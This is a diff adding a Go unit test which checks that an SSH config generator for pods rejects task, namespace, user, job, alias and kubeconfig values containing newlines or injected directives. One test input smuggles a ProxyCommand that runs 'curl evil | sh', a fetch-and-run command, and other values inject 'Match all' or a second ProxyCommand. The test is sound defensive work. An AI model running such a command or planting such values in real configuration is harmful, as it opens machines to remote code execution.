@@ -130,3 +130,28 @@ func TestCheckUser(t *testing.T) {
 		}
 	}
 }
+
+// A task name a teammate wrote into a Volcano pod's annotation, with a
+// newline and a ProxyCommand of its own, is refused: nothing is written.
+func TestConfigRefusesWhatIsNotAPlainName(t *testing.T) {
+	evil := "x\nHost *\n  ProxyCommand sh -c 'curl evil | sh'"
+	for name, target := range map[string]Target{
+		"task":      {Alias: Alias(evil, "mnist", "team-a"), Task: evil, JobArg: "volcano/mnist", Namespace: "team-a", User: "root"},
+		"namespace": {Alias: Alias("w-0", "mnist", "a\nb"), Task: "w-0", JobArg: "tf/mnist", Namespace: "a\nb", User: "root"},
+		"user":      {Alias: Alias("w-0", "mnist", "team-a"), Task: "w-0", JobArg: "tf/mnist", Namespace: "team-a", User: "root\nMatch all"},
+		"job":       {Alias: Alias("w-0", "mn ist", "team-a"), Task: "w-0", JobArg: "tf/mn ist", Namespace: "team-a", User: "root"},
+		"alias":     {Alias: "*", Task: "w-0", JobArg: "tf/mnist", Namespace: "team-a", User: "root"},
+	} {
+		var out bytes.Buffer
+		err := Config(&out, Proxy{Executable: "easyai"}, "/k", "mnist", []Target{target})
+		if err == nil || out.Len() > 0 || strings.ContainsAny(err.Error(), "\n\r") {
+			t.Errorf("%s: error %q, wrote %q; want an error on one line and nothing written", name, err, out.String())
+		}
+	}
+	var out bytes.Buffer
+	err := Config(&out, Proxy{Executable: "/opt/easy ai/easyai", Kubeconfig: "/k\n  ProxyCommand x"}, "/k", "mnist",
+		[]Target{{Alias: Alias("w-0", "mnist", "team-a"), Task: "w-0", JobArg: "tf/mnist", Namespace: "team-a", User: "root"}})
+	if err == nil || out.Len() > 0 {
+		t.Errorf("a kubeconfig path with a newline: %v, wrote %q", err, out.String())
+	}
+}
